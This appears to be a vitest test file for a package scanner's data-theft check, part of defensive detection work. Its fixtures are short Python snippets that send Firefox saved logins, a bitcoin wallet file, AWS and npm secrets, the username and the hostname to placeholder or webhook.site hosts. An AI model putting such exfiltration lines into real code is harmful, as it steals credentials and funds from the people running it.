import { describe, expect, it } from 'vitest';
import { codeFindings } from '../../../../test/builders/code-findings.ts';

describe('checks/package/data-theft', () => {
  it.each([
    [
      'browser-data-sent',
      "import requests, os\ndef go():\n  requests.post('https://host.invalid', files={'f': open(os.getenv('APPDATA') + '/Mozilla/Firefox/Profiles/x/logins.json', 'rb')})",
    ],
    [
      'wallet-sent',
      "import requests\nrequests.post('https://host.invalid', data=open('/root/.bitcoin/wallet.dat', 'rb').read())",
    ],
    [
      'secrets-collected',
      "import os, requests\ndef go(): requests.post('https://host.invalid', json={'a': os.environ['AWS_SECRET_ACCESS_KEY'], 'n': os.environ['NPM_TOKEN']})",
    ],
    [
      'data-in-name-lookup',
      "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.host.invalid')",
    ],
    [
      'machine-reported',
      "import socket, requests\nrequests.get('https://x.webhook.site/?h=' + socket.gethostname())",
    ],
  ])('reports %s in %j', async (rule, text) => {
    expect(await codeFindings(text, { check: 'data-theft' })).toContain(rule);
  });

  it.each([
    "import os, requests\ndef ask(q): return requests.post('https://host.invalid', json={'q': q}, headers={'key': os.environ['OPENAI_API_KEY']})",
    'import socket\ndef name(): return socket.gethostbyname(socket.gethostname())',
    "import socket, requests, hashlib\ndef ping(): requests.post('https://host.invalid', data=hashlib.sha256(socket.gethostname().encode()).hexdigest())",
  ])('stays silent about %j', async (text) => {
    expect(await codeFindings(text, { check: 'data-theft' })).toEqual([]);
  });
});
